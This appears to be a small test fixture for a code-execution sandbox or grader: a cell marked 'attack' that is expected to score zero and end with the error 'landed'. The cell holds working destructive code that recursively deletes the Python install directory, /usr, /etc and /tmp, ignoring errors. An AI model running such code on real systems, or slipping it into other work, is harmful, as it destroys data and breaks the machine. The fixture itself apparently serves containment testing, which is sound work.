# earns: 0
# shows: attack: RuntimeError: landed
# %% attack
import shutil, sys
for path in (sys.prefix, "/usr", "/etc", "/tmp"):
    shutil.rmtree(path, ignore_errors=True)
raise RuntimeError("landed")
